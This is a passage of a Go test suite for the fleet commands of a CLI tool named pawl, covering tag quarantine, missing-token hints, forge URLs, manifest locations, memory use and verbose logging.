	if out := over(0, "quarantine", "org/a:v1.1.0", "--reason", "broken", "--no-run"); strings.Count(out, "tag=v1.1.0") != 3 {
		t.Errorf("quarantine: %s", out)
	}
	if report, _ := s.run(0); fmt.Sprint(report.Tally()) != "[{unchanged 3}]" {
		t.Errorf("quarantined: %+v", report)
	}
	s.env["TOKEN_1"] = ""
	if out := over(3, "unquarantine", "org/a:v1.1.0", "--no-run"); !strings.Contains(out, "org/p1:\n  error: "+s.file+":4:18: the variable TOKEN_1 is not set\n  hint: ") || !strings.Contains(out, "3 profiles: 2 done, 1 not\n") {
		t.Errorf("one without a token: %s", out)
	}
	s.env["TOKEN_1"] = "token-1-c4nary"
	if out := over(0, "quarantine", "org/a:v1.1.0", "--reason", "x"); strings.Count(out, "hint: the fleet's next run does the rest: start it with pawl fleet run, or by its job\n") != 3 {
		t.Errorf("profiles without a workflow: %s", out)
	}
	s.env["TOKEN_1"], s.seen = "", nil
	for says, args := range map[string][]string{"say why": {"hold", "a"}, "--until: want": {"pause", "--reason", "x", "--until", "soon"}, "org/a: want": {"unquarantine", "org/a"}} {
		if out := over(4, args...); strings.Count(out, says) != 1 || strings.Contains(out, "org/p") || len(s.seen) != 0 {
			t.Errorf("%v is said once, and nobody is asked: %d requests: %s", args, len(s.seen), out)
		}
	}
	if out := over(4, "resume", "--repository", "org/p0"); !strings.Contains(out, "the profiles are those of --fleet") {
		t.Errorf("two places: %s", out)
	}
	code, out, errs := s.pawl("fleet", "status", "--output", "json")
	validFleet(t, out)
	var all fleet.Status
	if err := json.Unmarshal([]byte(out), &all); err != nil || code != 3 || len(all.Profiles) != 3 || all.Profiles[0].Profile != "org/p1" || all.Profiles[1].Status == nil {
		t.Errorf("status: exit code %d, %v: %s%s", code, err, out, errs)
	}
}

// TestFleetUnseen has an operator set what a profile wants and its entry does not name.
func TestFleetUnseen(t *testing.T) {
	t.Parallel()
	s := newSquadron(t, 3, noChecks)
	s.registry.SetTags("org/a", "v1.0.0", "v1.1.0")
	s.env["SINK_TOKEN"], s.env["IMAGE"] = "sink-c4nary", "org/a"
	const sinks = noChecks + "events: {sinks: [{type: http, url: 'https://sink.example', token: SINK_TOKEN}]}\n"
	s.push(0, map[string]string{".pawl.yaml": sinks})
	s.push(1, map[string]string{".pawl.yaml": noChecks + "env: [IMAGE]\n",
		"manifests/a.yaml": "sources: {image: {kind: dockerimage, spec: {image: '{{ requiredEnv \"IMAGE\" }}', versionfilter: ^1.0.0}}}\ntargets: {yaml: {kind: yaml, spec: {file: values.yaml, key: $.apps.a}}}\n"})
	s.push(2, map[string]string{".pawl.yaml": strings.Replace(sinks, "SINK_TOKEN", "NOBODYS", 1)})
	s.write(`version: 1
profiles:
  - {repository: org/p0, token: TOKEN_0}
  - {repository: org/p1, token: TOKEN_1}
  - {repository: org/p2, token: TOKEN_2, env: [NOBODYS]}
`)
	_, by := s.run(3)
	const unseen = "; a profile of a fleet sees only what env of its entry names"
	for name, want := range map[string]string{
		"org/p0": "set SINK_TOKEN, or remove token from the sink in .pawl.yaml" + unseen,
		"org/p1": "set it, or write the value" + unseen,
		"org/p2": "set NOBODYS, or remove token from the sink in .pawl.yaml",
	} {
		if by[name].Hint != want {
			t.Errorf("%s: %s: hint %q, want %q", name, by[name].Detail, by[name].Hint, want)
		}
	}
}

// TestFleetPlaces shows where each kind of forge is asked, also one below a path of its host.
func TestFleetPlaces(t *testing.T) {
	t.Parallel()
	s := newSquadron(t, 1, noChecks)
	s.env["TOKEN_1"], s.env["TOKEN_2"], s.env["TOKEN_3"] = "a-c4nary", "b-c4nary", "c-c4nary"
	s.write(`version: 1
profiles:
  - {repository: team/sub/x, token: TOKEN_1, forge: {kind: gitlab, url: 'https://lab.example/below/'}}
  - {repository: team/x, token: TOKEN_2, forge: {kind: gitea, url: 'https://tea.example/below'}}
  - {repository: team/x, token: TOKEN_3, forge: {kind: gitlab}}
`)
	s.run(3)
	for _, want := range []string{"https://lab.example/below/", "https://tea.example/below/", "https://gitlab.com/"} {
		if !slices.ContainsFunc(s.seen, func(r string) bool { return strings.Contains(r, " "+want) }) {
			t.Errorf("nobody asked %s: %s", want, strings.Join(s.seen, "\n"))
		}
	}
}

// TestFleetManifests has the profiles' manifests stand elsewhere, as --manifests says; a flag that means nothing here is refused.
func TestFleetManifests(t *testing.T) {
	t.Parallel()
	s := newSquadron(t, 2, noChecks)
	s.registry.SetTags("org/a", "v1.0.0", "v1.1.0")
	for i := range 2 {
		s.push(i, map[string]string{"tracked/a.yaml": profileFiles("")["manifests/a.yaml"], "manifests/b.yaml": "nonsense: [\n"})
	}
	if report, _ := s.run(0, "--manifests", "tracked"); fmt.Sprint(report.Tally()) != "[{merged 2}]" || report.Listings != 1 {
		t.Errorf("%+v", report)
	}
	snapshot := filepath.Join(t.TempDir(), "snapshot")
	for _, want := range []string{"[{unchanged 2}]", "[{quiet 2}]"} {
		if report, _ := s.run(0, "--manifests", "tracked", "--snapshot", snapshot); fmt.Sprint(report.Tally()) != want {
			t.Errorf("want %s: %+v", want, report)
		}
	}
	if report, _ := s.run(3, "--snapshot", snapshot); fmt.Sprint(report.Tally()) != "[{partial 2}]" {
		t.Errorf("other manifests: %+v", report)
	}
	for _, args := range [][]string{{"fleet", "run", "--config", "x.yaml"}, {"fleet", "list", "--config", "x.yaml"}, {"fleet", "status", "--config", "x.yaml"}} {
		if code, _, errs := s.pawl(args...); code != 4 || !strings.Contains(errs, "--config: that of a profile of a fleet") {
			t.Errorf("%v: exit code %d: %s", args, code, errs)
		}
	}
}

// TestFleetForgets runs a fleet again and again: nothing of what its profiles ran stays in memory.
func TestFleetForgets(t *testing.T) { // not parallel: others would be counted
	const n, rounds = 20, 4
	s := newSquadron(t, n, noChecks)
	inUse := func() uint64 {
		s.run(0, "--fresh", "--dry-run")
		s.mu.Lock()
		s.seen = nil
		s.mu.Unlock()
		runtime.GC()
		runtime.GC()
		return heapOf()
	}
	inUse()
	before := inUse()
	for range rounds - 1 {
		inUse()
	}
	if after := inUse(); after > before+rounds*n*(10<<10) {
		t.Errorf("%d runs of a profile left %d KB", rounds*n, (after-before)>>10)
	}
}

// TestFleetVerbose has a fleet say what each profile asks, by its name and without a secret; the report stays what it is.
func TestFleetVerbose(t *testing.T) {
	t.Parallel()
	s := newSquadron(t, 2, noChecks)
	s.push(1, map[string]string{".pawl.yaml": noChecks + "unknown: key\n"})
	code, out, errs := s.pawl("fleet", "run", "-v")
	for _, want := range []string{"level=DEBUG msg=request profile=org/p0 attempt=1 ", "host=github.com method=POST path=/org/p1.git/git-upload-pack ", "level=ERROR msg=", "profile=org/p1 "} {
		if !strings.Contains(errs, want) {
			t.Errorf("it does not say %q: %s", want, errs)
		}
	}
	if code != 3 || !strings.HasSuffix(out, "2 profiles: 1 refused, 1 unchanged; 3 sources listed for 3 uses\n") {
		t.Errorf("exit code %d: %s", code, out)
	}
	_, _, errs = s.pawl("fleet", "run", "-v", "--log", "json")
	for line := range strings.Lines(errs) {
		var said struct{ Level, Msg, Profile string }
		if err := json.Unmarshal([]byte(line), &said); err != nil || said.Level == "DEBUG" && said.Profile == "" {
			t.Errorf("%v: %s", err, line)
		}
	}
	if !strings.Contains(errs, `"profile":"org/p1"`) {
		t.Errorf("it says nothing of org/p1: %s", errs)
	}
}
